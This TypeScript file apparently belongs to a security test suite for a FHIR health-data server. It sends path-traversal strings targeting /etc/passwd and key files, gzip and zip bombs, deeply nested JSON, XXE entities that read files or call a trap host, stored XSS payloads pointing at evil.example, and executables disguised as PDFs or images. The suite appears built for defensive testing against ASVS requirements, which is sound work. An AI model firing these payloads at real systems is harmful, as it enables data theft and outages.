import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import { attack, type Family, loot } from "./attack.ts";
import { judge } from "./judge.ts";
import { zipOf } from "./zip.ts";

const secretFiles = /root:x:0:0|"dependencies"|BEGIN (?:RSA |EC )?PRIVATE KEY|\[core\]/;

const traversal = attack({
  name: "climbs out of folders by dots, slashes, encodings and drive letters",
  asvs: ["5.3.2", "13.4.1", "13.4.3"],
  run: async (target) => {
    const found = loot();
    const { all } = target.askers;
    const ups = [
      "../",
      "..%2f",
      "%2e%2e/",
      "%2e%2e%2f",
      "..%252f",
      "..\\",
      "..%5c",
      "....//",
      "%c0%ae%c0%ae/",
      "..;/",
      "..%00/",
    ];
    const roots = [
      "/assets/",
      "/",
      "/fhir/",
      "/fhir/$export-file/",
      "/api/",
      "/fhir/Binary/",
      "/api/exports/",
      "/audit/",
      "/citizen/",
    ];
    const goals = ["etc/passwd", "package.json", ".git/config", "data/keys/master.key"];
    for (const root of roots)
      for (const up of ups)
        for (const goal of goals) {
          const answer = await target.send({ path: root + up.repeat(6) + goal, headers: all });
          found.when(secretFiles.test(answer.text), `${root}${up}… gave ${goal}`);
          judge(found, answer, root + up + goal);
        }
    for (const path of [
      "/assets//etc/passwd",
      "/assets/C:/Windows/win.ini",
      "/assets/file:///etc/passwd",
      "//etc/passwd",
      "/assets/%00.js",
    ]) {
      const answer = await target.send({ path, headers: all });
      found.when(answer.status < 400 && path !== "//etc/passwd", `${path} is there`);
      judge(found, answer, path);
    }
    return found.gains;
  },
});

const exportFiles = attack({
  name: "guesses the files of somebody else's export",
  asvs: ["8.2.2", "5.3.2"],
  run: async (target) => {
    const found = loot();
    const started = await target.send({
      path: "/fhir/$export",
      headers: { ...target.askers.all, prefer: "respond-async", accept: "application/fhir+json" },
    });
    const where = String(started.headers["content-location"] ?? "/fhir/nowhere");
    const path = where.startsWith("http") ? new URL(where).pathname : where;
    found.when(started.status !== 202, `no export was started: nothing is proven (${started.status})`);
    found.when(!/[0-9a-f]{8}-|[\w-]{20}/.test(path), `the export's address can be guessed: ${path}`);
    for (const name of ["doctor", "citizen", "itAdministrator", "patientsOnly", "nothing", "nobody"] as const)
      for (const address of [path, `${path}/Patient.ndjson`, `${path}/1`, `${path}/../`]) {
        const answer = await target.send({ path: address, headers: target.askers[name] });
        found.when(answer.status < 300, `${name} fetched ${address}`);
        judge(found, answer, address);
      }
    return found.gains;
  },
});

const patient = '{"resourceType":"Patient","name":[{"text":"a"}]}';

const compressed = attack({
  name: "sends a small compressed body that grows without measure",
  asvs: ["5.2.3", "15.2.2"],
  run: async (target) => {
    const found = loot();
    const huge = Buffer.alloc(40_000_000, " ");
    const bodies = {
      gzip: gzipSync(huge),
      deflate: deflateSync(huge),
      br: brotliCompressSync(huge.subarray(0, 4_000_000)),
    };
    for (const [encoding, body] of Object.entries(bodies))
      for (const path of ["/fhir/Patient", "/fhir", "/oauth/token", "/api/sign-in"]) {
        const headers = {
          ...target.askers.all,
          "content-encoding": encoding,
          "content-type": "application/fhir+json",
        };
        const answer = await target.send({ method: "POST", path, headers, body });
        found.when(answer.status < 400, `${path} took ${encoding}`);
        judge(found, answer, `${encoding} at ${path}`);
      }
    return found.gains;
  },
});

const deep = attack({
  name: "nests JSON without end wherever JSON is taken",
  asvs: ["15.2.2", "1.5.2"],
  run: async (target) => {
    const found = loot();
    const nests = [
      "[".repeat(400_000),
      `${"[".repeat(100_000)}${"]".repeat(100_000)}`,
      `${'{"a":'.repeat(50_000)}1${"}".repeat(50_000)}`,
      `{"resourceType":"Bundle","type":"batch","entry":${"[".repeat(90_000)}${"]".repeat(90_000)}}`,
      `{"resourceType":"Patient","birthDate":${"9".repeat(200_000)}}`,
      `{"login":${"[".repeat(100_000)}${"]".repeat(100_000)},"password":"x"}`,
    ];
    for (const path of [
      "/fhir",
      "/fhir/Patient",
      "/fhir/Patient/$validate",
      "/api/sign-in",
      "/api/jobs/x/rerun",
      "/oauth/token",
    ])
      for (const [n, body] of nests.entries()) {
        const answer = await target.send({ method: "POST", path, headers: target.askers.all, body });
        judge(found, answer, `nest ${n} at ${path}`);
        found.when(
          answer.status < 300 && !answer.text.includes("OperationOutcome"),
          `nest ${n} was taken at ${path}`,
        );
      }
    return found.gains;
  },
});

const xml = attack({
  name: "sends XML with entities that name files, call machines and multiply",
  asvs: ["1.5.1", "5.2.2"],
  run: async (target) => {
    const found = loot();
    const before = target.trap.caught();
    const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, n) => `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${String.fromCharCode(97 + n)};`.repeat(20)}">`).join("")}]><Patient xmlns="http://hl7.org/fhir"><id value="&u;"/></Patient>`;
    const file = `<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><Patient xmlns="http://hl7.org/fhir"><id value="&x;"/></Patient>`;
    const call = `<!DOCTYPE p SYSTEM "${target.trap.url}/p.dtd"><Patient xmlns="http://hl7.org/fhir"/>`;
    const inside = `<!DOCTYPE p [<!ENTITY % r SYSTEM "${target.trap.url}/r"> %r;]><Patient/>`;
    for (const body of [laughs, file, call, inside]) {
      for (const type of ["application/fhir+xml", "application/xml", "text/xml"]) {
        const headers = { ...target.askers.all, "content-type": type };
        const answer = await target.send({ method: "POST", path: "/fhir/Patient", headers, body });
        judge(found, answer, `XML as ${type}`);
        found.when(answer.status < 300, `XML with entities was taken as ${type}`);
      }
      const div = `<div xmlns="http://www.w3.org/1999/xhtml">${body.slice(0, 2_000)}</div>`;
      const resource = { ...(JSON.parse(patient) as object), text: { status: "generated", div } };
      const answer = await target.send({
        method: "POST",
        path: "/fhir/Patient",
        headers: target.askers.all,
        body: resource,
      });
      found.when(answer.status < 300, "a narrative with entities was stored");
    }
    found.when(target.trap.caught() !== before, "an entity made the product call another machine");
    return found.gains;
  },
});

const scripts = attack({
  name: "stores scripts in narratives, names and addresses that a page may show",
  asvs: ["1.3.1", "1.3.4", "3.2.2"],
  run: async (target) => {
    const found = loot();
    const evil = [
      "<div xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></div>",
      "<div xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='alert(1)'/></div>",
      "<div xmlns='http://www.w3.org/1999/xhtml'><a href='javascript:alert(1)'>x</a></div>",
      "<div xmlns='http://www.w3.org/1999/xhtml'><iframe src='https://evil.example'></iframe></div>",
      "<div xmlns='http://www.w3.org/1999/xhtml'><svg onload='alert(1)'></svg></div>",
      "<div xmlns='http://www.w3.org/1999/xhtml'><form action='https://evil.example'><input/></form></div>",
    ];
    for (const div of evil) {
      const body = { ...(JSON.parse(patient) as object), text: { status: "generated", div } };
      const answer = await target.send({
        method: "POST",
        path: "/fhir/Patient",
        headers: target.askers.all,
        body,
      });
      found.when(answer.status < 300, `stored ${div.slice(42, 90)}`);
    }
    const shown = await target.send({
      path: "/fhir/Patient/p-own",
      headers: { ...target.askers.all, accept: "text/html" },
    });
    found.when(
      String(shown.headers["content-type"]).startsWith("text/html"),
      "a resource is served as a page",
    );
    return found.gains;
  },
});

const disguised = attack({
  name: "stores programs, bombs and pages in documents under the name of a picture or a PDF",
  asvs: ["5.2.2", "5.2.3", "5.4.3"],
  run: async (target) => {
    const found = loot();
    const bomb = zipOf([{ name: "0", content: Buffer.alloc(60_000_000) }]);
    const files: readonly (readonly [type: string, content: Buffer])[] = [
      ["application/pdf", Buffer.from("MZ\x90\0 this program cannot be run")],
      ["image/png", Buffer.from("<html><script>alert(1)</script></html>")],
      ["image/svg+xml", Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")],
      ["text/html", Buffer.from("<script>alert(1)</script>")],
      ["application/javascript", Buffer.from("alert(1)")],
      ["application/x-msdownload", Buffer.from("MZ")],
      [
        "application/pdf",
        Buffer.from("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
      ],
      ["application/zip", bomb],
      ["application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", bomb],
      ["application/xml", Buffer.from("<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")],
    ];
    for (const [contentType, content] of files) {
      const data = content.toString("base64");
      const bodies = {
        Binary: { resourceType: "Binary", contentType, data },
        DocumentReference: {
          resourceType: "DocumentReference",
          status: "current",
          content: [{ attachment: { contentType, data } }],
        },
        Media: { resourceType: "Media", status: "completed", content: { contentType, data } },
        Patient: { resourceType: "Patient", photo: [{ contentType, data }] },
      };
      for (const [type, body] of Object.entries(bodies)) {
        const answer = await target.send({
          method: "POST",
          path: `/fhir/${type}`,
          headers: target.askers.all,
          body,
        });
        found.when(
          answer.status < 300,
          `a ${type} took ${contentType}: ${content.subarray(0, 20).toString("latin1")}`,
        );
        judge(found, answer, `${type} ${contentType}`);
      }
    }
    return found.gains;
  },
});

export const fileAttacks: Family = {
  family: "files",
  attacks: [traversal, exportFiles, compressed, deep, xml, scripts, disguised],
};
